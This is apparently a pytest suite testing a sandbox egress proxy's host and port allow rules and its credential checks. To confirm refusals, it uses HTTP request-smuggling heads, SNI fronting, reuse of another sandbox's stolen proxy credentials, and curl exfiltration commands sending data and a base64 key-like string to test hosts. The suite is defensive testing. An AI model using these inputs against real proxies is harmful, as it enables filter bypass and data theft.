"""Wildcards and ranges of ports: by name where that is possible, by the proxy for the rest."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from runner import Runner, denied, out
from small_internet import Net
from support.daemon import Daemon
from support.rpc import RpcError

from sandboxd.egress.proxy.server import credentials_in

pytestmark = pytest.mark.requires("bubblewrap", "ip", "openssl")

RAW = """
import base64, os, re, socket
user, where = re.match('http://(.*)@(.*)', os.environ['http_proxy']).groups()
host, port = where.split(':')
AUTH = 'Proxy-Authorization: Basic ' + base64.b64encode(user.encode()).decode() + '\\r\\n'
def ask(text):
    s = socket.create_connection((host, int(port))); s.settimeout(20)
    s.sendall(text.encode())
    got = b''
    try:
        while more := s.recv(4096): got += more
    except ConnectionResetError: pass
    return got.decode()
"""


@pytest.mark.docker_too
def test_names_below_a_wildcard_work_without_the_proxy(run: Runner) -> None:
    script = "unset ${!http*} ${!HTTP*} ${!all*} ${!ALL*}; env | grep -ci _proxy=; " \
             "curl -sS https://www.example.test/a http://api.example.test/b"  # fmt: skip
    result = run(script, "*.example.test")
    assert out(result) == "2\nwww.example.test /a\napi.example.test /b\n", result
    hosts = {entry["host"] for entry in result["network_usage"]}
    assert hosts == {"www.example.test", "api.example.test"}


@pytest.mark.docker_too
def test_the_proxy_variables_are_set_in_both_spellings_and_work(run: Runner) -> None:
    script = "env | grep -i _proxy= | cut -d= -f1 | sort | tr '\\n' ' '; " \
             "curl -sS https://www.example.test/a http://www.example.test/b"  # fmt: skip
    result = run(script, "*.example.test")
    names, *answers = out(result).splitlines()[0].split(" www")[0], *out(result).splitlines()[1:]
    expected = "ALL_PROXY HTTPS_PROXY HTTP_PROXY NO_PROXY all_proxy http_proxy https_proxy no_proxy"
    assert sorted(names.split()[:8]) == sorted(expected.split())
    assert answers == ["www.example.test /b"]


@pytest.mark.docker_too
@pytest.mark.parametrize(
    ("field", "found"),
    [
        ("Basic YTpi", ("a", "b")),
        ("Basic YTpi\xa0", ("", "")),
        ("Basic YT\xffpi", ("", "")),
        ("Basic //79", ("", "")),
        ("Basic Y", ("", "")),
        ("Digest YTpi", ("", "")),
        ("", ("", "")),
    ],
)
def test_credentials_that_are_none_are_no_error(field: str, found: tuple[str, str]) -> None:
    """An unexpected error would be a traceback in the daemon's log for each connection."""
    assert credentials_in(field) == found


@pytest.mark.parametrize("scheme", ["http", "socks5h"])
def test_a_range_of_ports_goes_through_the_proxy(run: Runner, scheme: str) -> None:
    variable = "http_proxy" if scheme == "http" else "all_proxy"
    script = f"curl -sS --proxytunnel -x ${variable} http://example.test:8080/x " \
             f"&& curl -sS -x ${variable} https://example.test:8443/y; " \
             f"curl -sS --proxytunnel -x ${variable} http://example.test:9090/z"  # fmt: skip
    result = run(script, "example.test:8000-8500")
    assert out(result) == "example.test:8080 /x\nexample.test:8443 /y\n", result
    assert denied(result) == [
        ("example.test", "example.test:9090 could not be reached: port 9090 of it is not allowed")
    ]


@pytest.mark.parametrize(
    "target", ["other.test:443", "93.184.216.36:443", "[2606:2800::1]:443", "127.0.0.1:80"]
)
def test_connect_to_anything_else_is_refused(run: Runner, net: Net, target: str) -> None:
    before = net.connections()
    code = f"{RAW}\nprint(ask('CONNECT {target} HTTP/1.1\\r\\n' + AUTH + '\\r\\n')[:12])"
    result = run.python(code, "*.example.test")
    assert out(result) == "HTTP/1.1 403\n", result
    assert [t for t, _ in denied(result)] == [target.rpartition(":")[0].strip("[]")]
    assert net.connections() == before


def test_sni_fronting_through_a_tunnel_is_refused(run: Runner, net: Net) -> None:
    before = net.connections()
    code = f"""{RAW}
import ssl
s = socket.create_connection((host, int(port)))
s.sendall(('CONNECT www.example.test:443 HTTP/1.1\\r\\n' + AUTH + '\\r\\n').encode())
print(s.recv(4096)[:12])
c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
try: c.wrap_socket(s, server_hostname='other.test'); print('passed')
except ssl.SSLError as e: print('refused')
"""
    result = run.python(code, "*.example.test")
    assert out(result) == "b'HTTP/1.1 200'\nrefused\n", result
    assert [t for t, _ in denied(result)] == ["other.test"]
    assert net.connections() == before


@pytest.mark.docker_too
def test_nobody_passes_without_credentials_or_with_those_of_another_sandbox(
    run: Runner, gate_daemon: Daemon, net: Net
) -> None:
    params = {
        "argv": ["bash", "-c", "echo $http_proxy; read line"], "stdin_open": True, "stream": True,
        "execution_id": "victim", "manifest": run.manifest("*.example.test"),
    }  # fmt: skip
    number = run.connection.start("execute", params)
    run.connection.wait_until(lambda: "\n" in run.connection.output("victim"))
    stolen = run.connection.output("victim").strip()
    before = net.connections()
    with gate_daemon.connect() as connection:
        script = f"curl -sS -x {stolen} http://www.example.test/; " \
                 "curl -sS -o /dev/null -w '%{http_code}\\n' -x http://127.76.0.1:808 " \
                 "http://www.example.test/; curl -sS -o /dev/null -w '%{http_code}\\n' " \
                 "http://www.example.test/"  # fmt: skip
        result = Runner(connection, net)(script, "*.example.test")
    run.connection.call("execution/close_stdin", {"execution_id": "victim"})
    run.connection.result(number)
    assert out(result).splitlines()[1:] == ["407", "200"], result
    assert [message for _, message in denied(result)] == [
        "www.example.test:80 could not be reached: "
        "the proxy's credentials are not those of this execution"
    ]
    assert len(net.connections()) == len(before) + 1  # the last one, with its own


@pytest.mark.parametrize(
    "head",
    [
        "GET http://www.example.test/ HTTP/1.1\\r\\nHost: other.test\\r\\nContent-Length: 3\\r\\n"
        "Transfer-Encoding: chunked\\r\\n",
        "GET http://www.example.test/ HTTP/1.1\\r\\nHost: www.example.test\\r\\n"
        "Content-Length: 5, 5\\r\\n",
        "GET http://user@www.example.test/ HTTP/1.1\\r\\n",
        "GET https://www.example.test/ HTTP/1.1\\r\\n",
        "GET http://www.example.test/ HTTP/1.1\\r\\nX : y\\r\\n",
        "GET  http://www.example.test/ HTTP/1.1\\r\\n",
        "GET http://www.example.test/\\x00 HTTP/1.1\\r\\n",
        "POST http://www.example.test/ HTTP/1.1\\r\\nConnection: transfer-encoding\\r\\n"
        "Transfer-Encoding: chunked\\r\\n",
        "POST http://www.example.test/ HTTP/1.1\\r\\nConnection: x, Content-Length\\r\\n"
        "Content-Length: 3\\r\\n",
        "POST http://www.example.test/ HTTP/1.1\\r\\nTransfer-Encoding: \\x0bchunked\\r\\n",
        "POST http://www.example.test/ HTTP/1.1\\r\\nContent_Length: 3\\r\\n",
        "POST http://www.example.test/ HTTP/1.1\\r\\nContent-Length: 03\\r\\n",
        "PRI http://www.example.test/ HTTP/2.0\\r\\n",
        "GET http://www.example.test/\\x80 HTTP/1.1\\r\\n",
        "SSH-2.0-x\\r\\n",
    ],
)
def test_what_could_be_read_in_two_ways_is_refused_at_the_proxy(
    run: Runner, net: Net, head: str
) -> None:
    before = net.connections()
    result = run.python(f"{RAW}\nprint(ask('{head}' + AUTH + '\\r\\n')[:12])", "*.example.test")
    assert out(result) == "HTTP/1.1 400\n", result
    assert net.connections() == before


def test_a_smuggled_second_request_is_never_answered(run: Runner) -> None:
    """What follows a request on the proxy's connection is not sent to that request's server."""
    code = f"""{RAW}
one = 'GET http://www.example.test/1 HTTP/1.1\\r\\nHost: x\\r\\n' + AUTH + '\\r\\n'
got = ask(one + 'GET /2 HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n')
print('www.example.test /1' in got or got == '', 'other.test' in got)
"""
    assert out(run.python(code, "*.example.test")) == "True False\n"


def test_data_on_its_way_out_is_called_so(run: Runner) -> None:
    script = "curl -sS -d data http://other.test/; " \
             "curl -sS http://93.184.216.36/$(printf %0100d 0); " \
             "curl -sS http://third.test/x?q=QUtJQUlPU0ZPRE5ON0VYQU1QTEU"  # fmt: skip
    result = run(script, "*.example.test")
    assert "POST carries data out" in out(result)
    assert "looks like base64" in out(result)
    assert {target for target, _ in denied(result)} == {"other.test", "93.184.216.36", "third.test"}


def test_a_wildcard_does_not_cover_the_host_above_it_or_a_shared_platform(run: Runner) -> None:
    result = run("curl -sS --noproxy '*' http://example.test/", "*.example.test")
    assert [target for target, _ in denied(result)] == ["example.test"]


def test_the_ceiling_limits_the_hosts_that_can_be_asked_for(
    start_in_net: Callable[..., Daemon], net: Net
) -> None:
    daemon = start_in_net(more='[ceiling]\nhosts = ["*.example.test"]')
    with daemon.connect() as connection:
        run = Runner(connection, net)
        assert out(run("curl -sS http://www.example.test/", "www.example.test"))
        with pytest.raises(RpcError) as caught:
            run("true", "other.test")
        assert (caught.value.kind, caught.value.field) == ("CeilingExceeded", "network.hosts")


def test_groups_and_configured_hosts_expand(start_in_net: Callable[..., Daemon], net: Net) -> None:
    daemon = start_in_net(
        'allow = ["other.test"]\n[egress.groups]\nmirrors = ["example.test", "www.example.test"]'
    )
    with daemon.connect() as connection:
        run = Runner(connection, net)
        checked = connection.call("manifest/check", {"manifest": run.manifest("group:mirrors")})
        hosts = ["example.test", "www.example.test", "other.test"]
        assert checked["plan"]["network"]["hosts"] == hosts
        result = run("curl -sS http://other.test/ http://www.example.test/", "group:mirrors")
        assert out(result) == "other.test /\nwww.example.test /\n"
